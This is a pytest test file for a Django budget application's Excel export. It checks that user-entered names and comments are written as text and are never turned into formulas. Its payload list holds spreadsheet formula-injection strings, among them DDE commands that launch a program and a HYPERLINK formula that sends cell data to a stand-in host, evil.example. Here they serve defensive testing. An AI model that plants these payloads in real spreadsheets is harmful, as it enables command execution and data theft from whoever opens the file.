"""The budget Excel export: a person's text is text, never a formula; our sums stay formulas;
each group appears once with its lines and its subtotal."""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from finance.models import BudgetGroup
from finance.services.budgets import budget_group_add, budget_line_add, budget_version_create
from finance.services.forecasts import forecast_update

pytestmark = pytest.mark.django_db

# OWASP "CSV Injection": cells that start with =, +, -, @, a tab or a carriage return.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klicka här\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "#N/A",
]

# The formulas the export writes itself: =SUM(B5:B9), =D5-B5, =B6+B10, =0.
OUR_FORMULA = re.compile(r"SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+(?:[+-][A-Z]+\d+)*|0")


def _export(client, budget) -> bytes:
    response = client.get(reverse("finance:budget_excel", args=[budget.organisation.slug, budget.year]))
    assert response.status_code == 200
    return response.content


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_text_a_person_wrote_is_written_as_text(payload, budget, director, login):
    org = budget.organisation
    org.name = payload + " förbund"
    org.save()
    budget.title = payload + " budget"
    budget.save()
    group = budget_group_add(budget=budget, kind=BudgetGroup.Kind.STRUCTURAL, name=payload, actor=director)
    line = budget_line_add(budget=budget, group=group, code="farlig", name=payload, actor=director)
    budget_line_add(budget=budget, group=group, code="granne", name="Granne", actor=director)
    budget_version_create(budget=budget, label=payload, amounts={"farlig": Decimal(-5)}, actor=director)
    forecast_update(line=line, amount=Decimal(-7), comment=payload, based_on=None, actor=director)

    content = _export(login(director), budget)
    ws = load_workbook(io.BytesIO(content)).active
    cells = {(c.row, c.column): c for row in ws.iter_rows() for c in row if c.value is not None}
    texts = [c for c in cells.values() if isinstance(c.value, str) and payload.strip() in c.value]
    # Association and budget name, version label, group heading, line name, comment.
    written = {c.value for c in texts}
    assert {f"{payload} förbund – {payload} budget", payload} <= written, written
    # Group heading, version label, line name (the comment is stripped of a leading tab).
    assert sum(1 for c in texts if c.value == payload) >= 3
    for c in texts:
        assert c.data_type == "s", (c.coordinate, c.value, c.data_type)
        # Excel's "typed as text" mark, so that editing the cell does not turn it into a formula.
        assert c.quotePrefix == c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.coordinate

    # The raw XML: every <f> is one of our own formulas, and there are as many as we wrote.
    xml = _sheet_xml(content)
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert formulas and all(OUR_FORMULA.fullmatch(f) for f in formulas), formulas
    ours = [c for c in cells.values() if c.data_type == "f"]
    assert len(ours) == len(formulas)
    assert all(OUR_FORMULA.fullmatch(c.value[1:]) for c in ours)
    assert "cmd|" not in "".join(formulas) and "HYPERLINK" not in "".join(formulas)


def test_our_own_sums_stay_formulas(budget, director, login):
    ws = load_workbook(io.BytesIO(_export(login(director), budget))).active
    column_a = [ws.cell(r, 1).value for r in range(1, ws.max_row + 1)]
    team_sum = column_a.index("Summa individinsatser") + 1
    first = column_a.index("Samordningsteam A") + 1
    assert ws.cell(team_sum, 2).data_type == "f"
    assert ws.cell(team_sum, 2).value == f"=SUM(B{first}:B{first + 1})"
    assert ws.cell(first, 5).value == f"=D{first}-B{first}"
    result = column_a.index("Resultat (SUMMA)") + 1
    assert ws.cell(result, 2).data_type == "f"


def test_control_characters_a_person_typed_do_not_break_the_export(budget, director, login):
    line = budget.lines.get(code="team-a")
    forecast_update(line=line, amount=Decimal(-1), comment="Rad ett\x07\x1b rad\ttvå\nrad tre",
                             based_on=None, actor=director)
    ws = load_workbook(io.BytesIO(_export(login(director), budget))).active
    comments = [c.value for c in ws["F"] if c.value and str(c.value).startswith("Rad ett")]
    assert comments == ["Rad ett rad\ttvå\nrad tre"]


def test_each_group_appears_once_with_its_lines_and_subtotal(budget, director, login):
    """As on the page: no heading repeating the section (Intäkter) or the group's only line
    (Styrelse); a group of several lines gets its heading."""
    ws = load_workbook(io.BytesIO(_export(login(director), budget))).active
    column_a = [ws.cell(r, 1).value for r in range(3, ws.max_row + 1)]
    assert column_a == [
        "INTÄKTER",
        "Medel från huvudmännen",
        "Summa intäkter",
        "ADMINISTRATIVA KOSTNADER",
        "Styrelse",
        "Summa styrelse",
        "Administration",
        "Summa administration",
        "DIREKTA INSATSKOSTNADER",
        "Individinsatser",
        "Samordningsteam A",
        "Samordningsteam B",
        "Summa individinsatser",
        "Strukturpåverkande insatser",
        "Myndighetsgemensamt team",
        "Summa strukturpåverkande insatser",
        None,
        "Summa intäkter",
        "Summa kostnader",
        "Resultat (SUMMA)",
    ]
